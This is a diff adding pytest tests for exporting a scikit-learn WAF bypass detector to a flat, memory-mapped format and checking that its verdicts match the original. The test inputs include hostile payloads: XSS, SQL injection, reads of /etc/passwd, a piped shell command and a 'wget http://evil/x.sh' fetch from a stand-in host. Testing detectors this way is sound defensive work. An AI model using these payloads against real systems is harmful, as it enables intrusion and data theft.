@@ -0,0 +1,208 @@
+import numpy as np
+import pytest
+
+sklearn = pytest.importorskip("sklearn")
+
+from sklearn.ensemble import (ExtraTreesClassifier, IsolationForest, RandomForestClassifier,
+                              VotingClassifier)
+from sklearn.linear_model import LogisticRegression
+from sklearn.preprocessing import MinMaxScaler, RobustScaler, StandardScaler
+from sklearn.tree import DecisionTreeClassifier
+
+from app.flat_model import (FLAT_MODEL_FILE, MAPPED_MODEL_DIR, FlatDetector, UnsupportedModelError,
+                            export_detector)
+from app.waf_detector import WAFBypassDetector, WAFBypassFeatureExtractor, WAFEngine
+from app.waf_vectorizer import FEATURE_PLAN_FILE, WAFFeatureVectorizer
+from tools import export_flat_model
+from tools.export_flat_model import compare
+
+
+PAYLOADS = [
+    "", "q=shoes", "id=42&sort=price", "<script>alert(1)</script>",
+    "1' OR '1'='1' -- ", "UNION SELECT username, password FROM users",
+    "../../etc/passwd", "%2e%2e%2fwin.ini", "<img src=x onerror=eval(atob('x'))>",
+    "; cat /etc/passwd | bash", "name=O'Brien", "0x41414141", "/*comment*/ s/**/e/**/lect",
+    "&#60;svg onload=alert(1)&#62;", "\\x3cscript\\x3e", "wget http://evil/x.sh; curl -s x",
+]
+
+
+def _training_matrix(tmp_path_factory, seed=0):
+    columns = WAFEngine(model_dir=str(tmp_path_factory.mktemp('empty'))).X_train_columns
+    vectorizer = WAFFeatureVectorizer(WAFBypassFeatureExtractor(), columns)
+    rng = np.random.default_rng(seed)
+    X = vectorizer.transform_many(PAYLOADS)
+    # Jittered copies give the trees something to split on
+    X = np.vstack([X] + [X + rng.normal(0, 0.5, X.shape) for _ in range(8)])
+    y = (X[:, columns.index('char_60')] + X[:, columns.index('length')] / 20 > 1.5).astype(int)
+    return vectorizer, X, y
+
+
+def _detector(scaler, ensemble, X, y, **iforest):
+    detector = WAFBypassDetector()
+    detector.scaler = scaler.fit(X)
+    X_scaled = detector.scaler.transform(X)
+    detector.anomaly_detector = IsolationForest(n_estimators=25, random_state=0, **iforest).fit(X_scaled)
+    detector.ensemble = ensemble.fit(X_scaled, y)
+    detector.is_trained = True
+    return detector
+
+
+ENSEMBLES = {
+    'random_forest': lambda: RandomForestClassifier(n_estimators=15, max_depth=6, random_state=0),
+    'extra_trees': lambda: ExtraTreesClassifier(n_estimators=10, random_state=1),
+    'decision_tree': lambda: DecisionTreeClassifier(max_depth=4, random_state=0),
+    'soft_voting': lambda: VotingClassifier([
+        ('rf', RandomForestClassifier(n_estimators=7, random_state=0)),
+        ('et', ExtraTreesClassifier(n_estimators=5, random_state=0)),
+        ('dt', DecisionTreeClassifier(max_depth=3, random_state=0)),
+    ], voting='soft', weights=[2, 1, 0.5]),
+}
+
+
+@pytest.mark.parametrize("name", sorted(ENSEMBLES))
+def test_flat_detector_matches_sklearn_bit_for_bit(name, tmp_path_factory):
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(StandardScaler(), ENSEMBLES[name](), X, y)
+    flat = export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns)
+
+    _, X_test, _ = _training_matrix(tmp_path_factory, seed=1)
+    assert len(compare(detector, flat, X_test)) == 0
+
+
+@pytest.mark.parametrize("scaler", [MinMaxScaler(clip=True), RobustScaler()], ids=['minmax', 'robust'])
+def test_other_scalers_and_feature_subsampling(scaler, tmp_path_factory):
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(scaler, ENSEMBLES['random_forest'](), X, y, max_features=0.5, max_samples=40)
+    flat = export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns)
+
+    _, X_test, _ = _training_matrix(tmp_path_factory, seed=2)
+    assert len(compare(detector, flat, X_test)) == 0
+
+
+def test_unsupported_ensemble_is_rejected(tmp_path_factory):
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(StandardScaler(), LogisticRegression(max_iter=200), X, y)
+    with pytest.raises(UnsupportedModelError):
+        export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns)
+
+
+def test_engine_serves_flat_export(tmp_path, tmp_path_factory):
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(StandardScaler(), ENSEMBLES['soft_voting'](), X, y)
+    export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns).save(str(tmp_path / FLAT_MODEL_FILE))
+
+    waf = WAFEngine(model_dir=str(tmp_path))
+    assert isinstance(waf.detector, FlatDetector)
+    assert waf.X_train_columns == vectorizer.columns
+    assert waf.feature_extractor.attack_keywords == WAFBypassFeatureExtractor().attack_keywords
+
+    results = waf.analyze_many(PAYLOADS)
+    expected_pred, expected_proba = detector.predict(vectorizer.transform_many(PAYLOADS))
+    assert [r['is_attack'] for r in results] == [bool(p == 1) for p in expected_pred]
+    assert [r['confidence'] for r in results] == [float(p) for p in expected_proba]
+
+    # The pandas-based path gets the same verdicts from the flat detector
+    dict_waf = WAFEngine(model_dir=str(tmp_path), feature_mode='dict')
+    assert [dict_waf.analyze(p)['confidence'] for p in PAYLOADS] == [r['confidence'] for r in results]
+
+
+def test_mapped_export_is_read_only_and_bit_identical(tmp_path, tmp_path_factory):
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(StandardScaler(), ENSEMBLES['soft_voting'](), X, y, max_features=0.5)
+    flat = export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns)
+    flat.save(str(tmp_path / FLAT_MODEL_FILE))
+    flat.save_mapped(str(tmp_path / MAPPED_MODEL_DIR))
+
+    mapped = FlatDetector.load_mapped(str(tmp_path / MAPPED_MODEL_DIR))
+    assert set(mapped.arrays()) == set(flat.arrays())
+    for array in mapped.arrays().values():
+        assert isinstance(array, np.memmap)
+        assert not array.flags.writeable
+
+    _, X_test, _ = _training_matrix(tmp_path_factory, seed=4)
+    assert len(compare(detector, mapped, X_test)) == 0
+
+    # 'auto' prefers the mapped export over the .npz one
+    waf = WAFEngine(model_dir=str(tmp_path))
+    assert isinstance(waf.detector._anomaly.threshold, np.memmap)
+    assert waf.analyze_many(PAYLOADS) == WAFEngine(model_dir=str(tmp_path), model_format='flat').analyze_many(PAYLOADS)
+
+
+def _pickled_models(tmp_path, tmp_path_factory):
+    import joblib
+
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    joblib.dump(_detector(StandardScaler(), ENSEMBLES['random_forest'](), X, y),
+                tmp_path / 'waf_bypass_detector_complete.pkl')
+    joblib.dump(WAFBypassFeatureExtractor(), tmp_path / 'waf_feature_extractor.pkl')
+    (tmp_path / 'corpus.txt').write_text("\n".join(p for p in PAYLOADS if p))
+
+
+def _export(monkeypatch, tmp_path, *flags):
+    monkeypatch.setattr('sys.argv', ['export_flat_model', '--model-dir', str(tmp_path),
+                                     '--corpus', str(tmp_path / 'corpus.txt'), *flags])
+    export_flat_model.main()
+
+
+def test_export_tool_replaces_the_export_only_when_it_verifies(tmp_path, tmp_path_factory, monkeypatch):
+    _pickled_models(tmp_path, tmp_path_factory)
+    _export(monkeypatch, tmp_path, '--mapped')
+    first = {f.name for f in (tmp_path / MAPPED_MODEL_DIR).iterdir()}
+    # Re-exporting over a previous mapped export swaps the whole directory
+    _export(monkeypatch, tmp_path, '--mapped')
+    exported = (tmp_path / FLAT_MODEL_FILE).read_bytes()
+    mapped = {f.name: f.read_bytes() for f in (tmp_path / MAPPED_MODEL_DIR).iterdir()}
+    assert set(mapped) == first
+    assert isinstance(WAFEngine(model_dir=str(tmp_path), model_format='flat').detector, FlatDetector)
+    assert isinstance(WAFEngine(model_dir=str(tmp_path), model_format='mapped').detector, FlatDetector)
+
+    monkeypatch.setattr(export_flat_model, 'compare', lambda reference, candidate, X: np.array([0]))
+    with pytest.raises(SystemExit):
+        _export(monkeypatch, tmp_path, '--mapped')
+    # The failed export never touched the ones in place, and left nothing behind
+    assert (tmp_path / FLAT_MODEL_FILE).read_bytes() == exported
+    assert {f.name: f.read_bytes() for f in (tmp_path / MAPPED_MODEL_DIR).iterdir()} == mapped
+    assert not list(tmp_path.glob('*.tmp*')) and not list(tmp_path.glob('*.old'))
+
+
+def test_flat_format_without_export_fails_to_load(tmp_path):
+    waf = WAFEngine(model_dir=str(tmp_path), model_format='flat')
+    assert waf.detector is None
+    assert waf.analyze("q=1")['error'] == 'Models not loaded'
+
+
+def test_feature_plan_prunes_unused_columns_without_changing_verdicts(tmp_path, tmp_path_factory):
+    from tools.feature_plan import build_plan, mismatches
+
+    vectorizer, X, y = _training_matrix(tmp_path_factory)
+    detector = _detector(StandardScaler(), DecisionTreeClassifier(max_depth=3, random_state=0), X, y,
+                         max_samples=16)
+    detector.anomaly_detector.set_params(n_estimators=3)
+    detector.anomaly_detector.fit(detector.scaler.transform(X))
+    flat = export_detector(detector, WAFBypassFeatureExtractor(), vectorizer.columns)
+    flat.save(str(tmp_path / FLAT_MODEL_FILE))
+
+    plan = build_plan(flat, vectorizer.columns)
+    assert 0 < len(plan.active) < len(vectorizer.columns)
+    pruned = WAFFeatureVectorizer(WAFBypassFeatureExtractor(), vectorizer.columns, plan=plan)
+    assert pruned.n_computed == len(plan.active)
+
+    X_full = vectorizer.transform_many(PAYLOADS)
+    X_pruned = pruned.transform_many(PAYLOADS)
+    assert len(mismatches(flat, X_full, X_pruned)) == 0
+    # Skipped columns hold the value the scaler centres to 0
+    skipped = [vectorizer.columns.index(c) for c in plan.fill]
+    assert np.allclose(flat.scaler_center()[skipped], X_pruned[:, skipped])
+
+    plan.save(str(tmp_path / FEATURE_PLAN_FILE))
+    waf = WAFEngine(model_dir=str(tmp_path))
+    assert waf.model_info()['computed_features'] == len(plan.active)
+    assert waf.analyze_many(PAYLOADS) == WAFEngine(model_dir=str(tmp_path), use_feature_plan=False).analyze_many(PAYLOADS)
+
+    # Retrained and re-exported next to the old plan: same columns, different trees
+    retrained = _detector(StandardScaler(), DecisionTreeClassifier(max_depth=5, random_state=1), X, y,
+                          max_samples=16)
+    export_detector(retrained, WAFBypassFeatureExtractor(), vectorizer.columns).save(str(tmp_path / FLAT_MODEL_FILE))
+    waf = WAFEngine(model_dir=str(tmp_path))
+    assert waf.bundle.feature_plan is None
+    assert waf.model_info()['computed_features'] == len(vectorizer.columns)